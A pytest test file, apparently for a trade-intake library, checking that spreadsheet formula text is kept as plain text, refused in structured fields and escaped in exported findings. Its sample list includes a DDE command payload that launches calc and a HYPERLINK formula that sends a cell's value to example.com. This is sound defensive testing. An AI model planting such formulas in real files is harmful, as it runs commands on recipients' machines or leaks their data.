"""Text that a spreadsheet would run: it is kept as it was typed, comes back so, and never runs."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter  # type: ignore[import-untyped]

from clientlib import talk
from clientlib.book import create_book, open_book
from clientlib.errors import IntakeError
from clientlib.intake import CheckResult, check_file
from clientlib.workbook import Workbook

Trade = Callable[..., dict[str, str]]
Write = Callable[..., Path]
WOULD_RUN = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1)',
    "=客户要求",
    "+1 等待",
    "-无",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "@张经理",
    "{=1+1}",
]
FORMS = ["csv", "xlsx"]


@pytest.fixture
def hand_in(a_trade: Trade, write_csv: Write, write_workbook: Write) -> Callable[..., Path]:
    """Writes trades, one for each text in one of their cells, as a text file or as a workbook."""

    def write(form: str, texts: list[str], name: str = "remarks") -> Path:
        rows = [a_trade(number, **{name: text}) for number, text in enumerate(texts, start=1)]
        if form == "csv":
            return write_csv(rows)
        return write_workbook({"trades": [list(rows[0]), *(list(row.values()) for row in rows)]})

    return write


@pytest.fixture
def workbook(tmp_path: Path) -> Workbook:
    (tmp_path / "firm").mkdir()
    (tmp_path / "firm" / "workbook.toml").touch()
    made = Workbook(tmp_path / "firm")
    create_book(made)
    return made


def remarks(result: CheckResult) -> list[str | None]:
    texts: list[str | None] = result.accepted["trades"].get_column("remarks").to_list()
    return texts


@pytest.mark.parametrize("form", FORMS)
def test_it_is_taken_as_text_exactly_as_typed(hand_in: Callable[..., Path], form: str) -> None:
    result = check_file(hand_in(form, WOULD_RUN))
    assert remarks(result) == WOULD_RUN
    assert result.errors.is_empty()
    assert result.changes.is_empty()


@pytest.mark.parametrize("form", FORMS)
def test_a_tab_before_it_goes_like_any_space_before_a_text(hand_in: Callable[..., Path], form: str) -> None:
    result = check_file(hand_in(form, ["\t=1+1"]))
    assert remarks(result) == ["=1+1"]
    assert result.changes.get_column("kind").to_list() == ["spaces"]


@pytest.mark.parametrize("form", FORMS)
def test_it_comes_back_from_the_book_as_it_was_typed(
    hand_in: Callable[..., Path], workbook: Workbook, form: str
) -> None:
    result = check_file(hand_in(form, WOULD_RUN))
    with open_book(workbook, role="data_entry", write=True) as book:
        book.import_checked([result], source="trades")
        held = book.area("trades")
    assert (
        held.sort_values("trade_id", key=lambda ids: ids.str[1:].astype(int))["remarks"].to_list()
        == WOULD_RUN
    )


@pytest.mark.parametrize(
    ("name", "text", "rule"),
    [
        ("quantity", "=1+1", "not_a_number"),
        ("traded_at", "=NOW()", "not_a_time"),
        ("side", "@buy", "code"),
        ("security_id", "=A1", "pattern"),
        ("trade_id", "+T1", "pattern"),
    ],
)
@pytest.mark.parametrize("form", FORMS)
def test_where_no_free_text_belongs_the_rule_of_the_field_refuses_it(
    hand_in: Callable[..., Path], form: str, name: str, text: str, rule: str
) -> None:
    errors = check_file(hand_in(form, [text], name)).errors
    assert errors.select("row", "field", "rule").rows() == [(2, name, rule)]


def test_a_phone_that_is_a_formula_is_no_phone(write_csv: Write) -> None:
    row = {
        "client_id": "C1",
        "mobile": "=13812345678",
        "marketing_consent": "no",
        "updated_at": "2026-03-21 10:31:00",
    }
    errors = check_file(write_csv([row], name="contacts.csv")).errors
    assert errors.select("field", "rule").rows() == [("mobile", "pattern")]


def test_a_formula_of_a_workbook_gives_its_last_value(a_trade: Trade, tmp_path: Path) -> None:
    row = a_trade()
    path = tmp_path / "trades.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("trades")
        sheet.write_row(0, 0, list(row))
        sheet.write_row(1, 0, list(row.values()))
        sheet.write_formula(1, list(row).index("remarks"), '="held "&"back"', value="held back")
        sheet.write_formula(1, list(row).index("quantity"), "=999+1", value=1000)
    assert check_file(path).accepted["trades"].select("quantity", "remarks").row(0) == (1000, "held back")


# ------------------------------------------------------------------------------------ NUL
def test_a_nul_in_a_workbook_is_taken_out_and_recorded(hand_in: Callable[..., Path]) -> None:
    result = check_file(hand_in("xlsx", ["\x00=1+1"]))
    assert remarks(result) == ["=1+1"]
    assert result.changes.get_column("field").to_list() == ["remarks"]


def test_a_nul_in_a_text_file_is_refused_with_its_place(hand_in: Callable[..., Path]) -> None:
    with pytest.raises(IntakeError, match="row 2: there is a NUL byte"):
        check_file(hand_in("csv", ["\x00=1+1"]))


# -------------------------------------------------------------------------- on the way out
def test_no_cell_of_a_file_of_findings_would_run(
    hand_in: Callable[..., Path], tmp_path: Path, a_trade: Trade, write_csv: Write
) -> None:
    named = write_csv([a_trade(1, quantity="=1+1", side="@buy", currency="\t+x")], name="=trades.csv")
    result = check_file(named)
    assert result.errors.height == 3
    talk.write_findings(result.findings, tmp_path / "found.csv", "en")
    with (tmp_path / "found.csv").open(encoding="utf-8-sig", newline="") as stream:
        cells: list[Any] = [cell for record in csv.reader(stream) for cell in record]
    assert "'=1+1" in cells
    assert "'=trades.csv" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))]
